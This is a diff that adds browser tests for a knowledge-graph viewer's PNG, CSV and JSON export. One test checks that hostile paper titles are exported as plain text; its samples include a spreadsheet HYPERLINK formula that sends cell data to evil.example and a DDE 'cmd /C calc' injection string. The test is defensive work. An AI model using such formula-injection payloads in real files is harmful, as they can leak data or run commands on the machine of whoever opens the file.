@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
+import struct
+import zlib
 from pathlib import Path
 
 import networkx as nx
@@ -917,3 +921,150 @@ def test_page_details_cap_the_papers_listed_and_say_how_many_more(seeds_graph):
     d = page_details(seeds_graph, seeds_graph.nodes)[top]
     assert d["mention_count"] > MAX_PAPERS and len(d["papers"]) == MAX_PAPERS
     assert d["papers_more"] == d["mention_count"] - MAX_PAPERS
+
+
+# ---------------------------------------------------------------- export: PNG, CSV and JSON of the view
+
+PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
+
+
+def _download(page: Page, what: str, tmp_path: Path) -> tuple[str, bytes]:
+    """Click an export button; the file the browser saved, and its suggested name."""
+    with page.page.expect_download() as info:
+        page.page.locator(f"#kg-export-{what}").click()
+    download = info.value
+    assert download.failure() is None, download.failure()
+    path = tmp_path / f"{what}-{download.suggested_filename}"
+    download.save_as(path)
+    return download.suggested_filename, path.read_bytes()
+
+
+def _png_rows(data: bytes, first: int) -> tuple[int, int, list[bytes]]:
+    """Width, height and the first `first` rows (RGBA bytes) of an 8-bit RGBA PNG, filters undone."""
+    assert data[:8] == PNG_MAGIC
+    length, kind = struct.unpack(">I4s", data[8:16])
+    assert (length, kind) == (13, b"IHDR")
+    width, height, depth, colour, _, _, interlace = struct.unpack(">IIBBBBB", data[16:29])
+    assert (depth, colour, interlace) == (8, 6, 0)  # what a canvas encodes: RGBA, 8 bits, not interlaced
+    idat, at = b"", 8
+    while at < len(data):
+        length, kind = struct.unpack(">I4s", data[at : at + 8])
+        if kind == b"IDAT":
+            idat += data[at + 8 : at + 8 + length]
+        at += 12 + length
+    raw, stride, rows = zlib.decompress(idat), width * 4, []
+    prev = bytes(stride)
+    for y in range(min(first, height)):
+        kind, line = raw[y * (stride + 1)], bytearray(raw[y * (stride + 1) + 1 : (y + 1) * (stride + 1)])
+        for i in range(stride):
+            a = line[i - 4] if i >= 4 else 0
+            b, c = prev[i], prev[i - 4] if i >= 4 else 0
+            if kind == 1:
+                line[i] = (line[i] + a) & 255
+            elif kind == 2:
+                line[i] = (line[i] + b) & 255
+            elif kind == 3:
+                line[i] = (line[i] + (a + b) // 2) & 255
+            elif kind == 4:
+                p = a + b - c
+                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
+                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
+        rows.append(bytes(line))
+        prev = line
+    return width, height, rows
+
+
+def _csv_rows(data: bytes) -> list[dict[str, str]]:
+    text = data.decode("utf-8")
+    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")  # RFC 4180 line ends
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _in_view(page: Page) -> list[str]:
+    return page.page.evaluate("() => window.kgViz.nodes.get().filter(n => !n.hidden).map(n => n.id)")
+
+
+@pytest.mark.browser
+def test_browser_export_png_is_the_drawing_on_a_white_background(browser, viewer_graph, tmp_path):
+    page, _ = _viewer_page(browser, viewer_graph, tmp_path)
+    name, data = _download(page, "png", tmp_path)
+    canvas = page.page.evaluate("() => ['width', 'height'].map(k => document.querySelector('#mynetwork canvas')[k])")
+    width, height, rows = _png_rows(data, 8)
+    assert name == "kg-view.png" and [width, height] == canvas and width > 500 and height > 300
+    assert len(data) > 10_000  # the drawing, not a blank image
+    assert all(row[3::4] == b"\xff" * width for row in rows)  # opaque: the background painted behind
+    assert rows[0][:4] == b"\xff\xff\xff\xff"  # white, like the page
+    _no_trouble(page)
+
+
+@pytest.mark.browser
+def test_browser_export_csv_and_json_hold_the_nodes_in_view(browser, viewer_graph, tmp_path):
+    """What a type toggle or a hop view hides is left out; what a focus only fades is kept."""
+    from kg.viz.selection import neighbours
+
+    page, report = _viewer_page(browser, viewer_graph, tmp_path)
+    g = viewer_graph
+    hardware = {n for n, d in g.nodes(data=True) if d.get("type") == "Hardware"}
+    page.page.locator('#kg-legend input[value="Hardware"]').uncheck()
+    visible = set(g) - hardware
+    assert set(_in_view(page)) == visible
+    name, data = _download(page, "csv", tmp_path)
+    rows = _csv_rows(data)
+    assert name == "kg-view.csv" and list(rows[0]) == ["key", "kind", "name", "mentions", "degree", "arxiv_id", "url"]
+    assert len(rows) == len(visible) == report.nodes - len(hardware)
+    assert {r["key"] for r in rows} == visible and not {r["kind"] for r in rows} & {"Hardware"}
+    by_key = {r["key"]: r for r in rows}
+    llama, paper = by_key[entity_key("llama")], by_key[paper_key("2402.00001")]
+    assert (llama["kind"], llama["name"], llama["mentions"], llama["degree"]) == ("Model", "LLaMA", "2", "2")
+    assert (llama["arxiv_id"], llama["url"]) == ("", "")
+    assert (paper["kind"], paper["name"], paper["mentions"]) == ("Paper", "Réglage fin à Zürich: LoRA for LLaMA", "")
+    assert paper["degree"] == str(len(neighbours(g, paper_key("2402.00001"))))
+    assert (paper["arxiv_id"], paper["url"]) == ("2402.00001", "https://arxiv.org/abs/2402.00001")
+    name, data = _download(page, "json", tmp_path)
+    doc = json.loads(data)
+    assert name == "kg-view.json" and doc["view"].startswith("whole graph:")
+    assert [n["key"] for n in doc["nodes"]] == [r["key"] for r in rows]
+    assert doc["nodes"][[n["key"] for n in doc["nodes"]].index(entity_key("llama"))]["mentions"] == 2
+    expected = {(u, k, v) for u, v, k in g.edges(keys=True) if u in visible and v in visible}
+    got = [(r["source"], r["type"], r["target"]) for r in doc["relationships"]]
+    assert len(got) == len(expected) and set(got) == expected
+    # a focus fades the rest but hides nothing: the same rows
+    _click_node(page, entity_key("llama"))
+    assert len(_state(page)["faded"]) > 0
+    assert _csv_rows(_download(page, "csv", tmp_path)[1]) == rows
+    # only one hop around LLaMA: its neighbours that are not Hardware, and the relationships among them
+    page.page.locator("#kg-details button[data-hops='1']").click()
+    near = _near(g, entity_key("llama")) - hardware
+    assert {r["key"] for r in _csv_rows(_download(page, "csv", tmp_path)[1])} == near
+    doc = json.loads(_download(page, "json", tmp_path)[1])
+    assert {n["key"] for n in doc["nodes"]} == near
+    assert {(r["source"], r["type"], r["target"]) for r in doc["relationships"]} == {
+        (u, k, v) for u, v, k in g.edges(keys=True) if u in near and v in near
+    }
+    _no_trouble(page)
+
+
+@pytest.mark.browser
+def test_browser_export_csv_keeps_hostile_titles_as_text(browser, xss_graph, tmp_path):
+    page, report = _viewer_page(browser, xss_graph, tmp_path)
+    name, data = _download(page, "csv", tmp_path)
+    rows = _csv_rows(data)
+    assert len(rows) == report.nodes
+    titles = {r["key"]: r["name"] for r in rows if r["kind"] == "Paper"}
+    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click, ""here""")'
+    at_sign = "@SUM(1+1) -cmd|' /C calc'!A0"
+    assert titles[graph_paper_node(xss_graph, XSS)] == XSS
+    bold = next(n for n in xss_graph if xss_graph.nodes[n].get("title", "").startswith("Scaling <b>"))
+    assert titles[bold] == xss_graph.nodes[bold]["title"]  # <b> and "quotes" as they were
+    assert titles[graph_paper_node(xss_graph, "2401.00005")] == "'" + formula  # guarded: a text cell
+    assert titles[graph_paper_node(xss_graph, "2401.00006")] == "'" + at_sign
+    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows for c in r)
+    text = data.decode("utf-8")
+    assert ',"' + ("'" + formula).replace('"', '""') + '",' in text  # quoted: it holds commas and quotes
+    assert ',"Scaling <b>Mixture-of-Experts</b> on H100 ""clusters""",' in text
+    assert f",{XSS}," in text  # nothing to quote: left bare
+    # the cell rule itself, on what no title can hold (titles are squashed to one line)
+    cells = page.page.evaluate("""() => ['a\\r\\nb', 'a\\nb', '-1', '+x', '\\tx', 'plain', 7, null].map(
+        v => window.kgViz.csvCell(v))""")
+    assert cells == ['"a\r\nb"', '"a\nb"', "'-1", "'+x", "'\tx", "plain", "7", ""]
+    _no_trouble(page)
